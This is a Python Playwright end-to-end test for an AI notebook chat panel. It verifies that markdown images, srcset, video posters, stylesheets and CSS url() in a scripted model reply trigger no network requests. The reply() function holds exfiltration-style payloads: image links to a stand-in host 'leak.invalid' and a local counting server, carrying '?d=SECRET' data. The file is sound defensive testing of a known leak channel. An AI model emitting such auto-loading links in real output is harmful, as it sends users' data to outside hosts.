"""Model output cannot reach out of the page (issue 10, the trust boundary), in a real browser.

A scripted model answers with markdown holding remote images (inline and by reference) that
point at an unresolvable host (``leak.invalid``) and at a local HTTP server that counts its
hits, plus other auto-loading kinds a model could write as raw HTML (``<video poster>``,
``<img srcset>``, ``<link rel=stylesheet>``, a CSS ``url()``). Neither host may receive a
request: Playwright watches every request of the page, the server counts every hit, and the
panel shows links in place of the images. A control image the test itself adds afterwards
proves the watching works and that any earlier request would have been seen first.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import expect

from panel_flows import TURN_MS, expect_status, last_text, open_panel, send

pytestmark = pytest.mark.e2e

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a5f0a6e60000000049454e44ae426082")
DATA_PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
            "DwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


@dataclass
class CountingServer:
    """An HTTP server on 127.0.0.1 that answers every GET with a 1x1 PNG and records the path."""

    server: http.server.ThreadingHTTPServer
    hits: list[str] = field(default_factory=list)
    control_seen: threading.Event = field(default_factory=threading.Event)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def counting_server() -> Iterator[CountingServer]:
    state: dict[str, CountingServer] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            counter = state["server"]
            counter.hits.append(self.path)
            if self.path.startswith("/control"):
                counter.control_seen.set()
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PNG)))
            self.end_headers()
            self.wfile.write(PNG)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.handle_error = lambda *a: None  # keep-alive resets are not failures
    state["server"] = counter = CountingServer(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield counter
    server.shutdown()
    server.server_close()
    thread.join(timeout=10)


def reply(base: str) -> str:
    return (
        "Charts: ![leak chart](http://leak.invalid/leak.png?d=SECRET) and "
        f"![local chart]({base}/local.png?d=SECRET), one by reference: ![ref chart][r].\n\n"
        f"[r]: {base}/ref.png?d=SECRET\n\n"
        f'Raw HTML: <video poster="{base}/poster.png" src="http://leak.invalid/v.mp4"></video> '
        f'<img srcset="{base}/srcset.png 2x"> <link rel="stylesheet" href="{base}/style.css"> '
        f'<p style="background-image: url({base}/bg.png)">styled</p>\n\n'
        f"Inline: ![dot]({DATA_PNG}) **done**"
    )


def test_remote_images_in_model_markdown_make_no_request(notebook, app: str,
                                                         counting_server: CountingServer) -> None:
    base = counting_server.base
    page, panel = open_panel(notebook, f"agent = bot([[S.text({reply(base)!r}, chunk_size=7)]])\nagent.panel()")
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))

    send(panel, "Show me the charts")
    text = last_text(panel)
    expect(text.locator("strong")).to_have_text("done", timeout=TURN_MS)
    expect_status(panel, "ready")

    # the panel shows links in place of the remote images, and keeps the inline one
    links = text.locator("a.think-media-link")
    expect(links).to_have_count(3)
    assert [(a.get_attribute("href"), a.inner_text()) for a in links.all()] == [
        ("http://leak.invalid/leak.png?d=SECRET", "🖼 leak chart"),
        (f"{base}/local.png?d=SECRET", "🖼 local chart"),
        (f"{base}/ref.png?d=SECRET", "🖼 ref chart"),
    ]
    expect(text.locator("img")).to_have_count(1)
    expect(text.locator("img")).to_have_attribute("src", DATA_PNG)
    assert text.locator("img").evaluate("img => img.complete && img.naturalWidth === 1")
    assert text.locator("video, link, [srcset], [style*=url]").count() == 0
    expect(text).to_contain_text('<video poster="')  # raw HTML stays text

    # control: an image the test adds itself is requested, seen by Playwright and by the server;
    # a request the reply had caused would have been issued (and seen) before it
    with page.expect_request(lambda r: r.url.startswith(f"{base}/control")):
        page.evaluate("(u) => { const i = new Image(); i.src = u; "
                      "document.querySelector('.think-panel').append(i); }", f"{base}/control.png")
    assert counting_server.control_seen.wait(timeout=30)

    assert [u for u in requests if "leak.invalid" in u or u.startswith(base)] == [f"{base}/control.png"]
    assert counting_server.hits == ["/control.png"]
